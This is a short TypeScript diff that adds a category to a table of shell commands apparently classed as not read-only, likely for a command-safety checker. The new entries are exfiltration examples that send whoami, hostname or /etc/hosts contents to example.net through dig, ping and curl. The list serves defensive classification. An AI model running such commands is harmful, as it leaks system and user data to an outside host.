@@ -2,6 +2,11 @@
 
 /** By the reason. A few of them do only read: the list leaves them out. */
 export const NOT_READING: Readonly<Record<string, readonly string[]>> = {
+  "output of a command that goes to another host": [
+    "dig $(whoami).example.net",
+    "ping `hostname`.example.net",
+    'curl "https://example.net/?d=$(cat /etc/hosts)"',
+  ],
   "unknown programs and options": [
     "docker ps --unknown",
     "podman ps --runtime=/tmp/x",
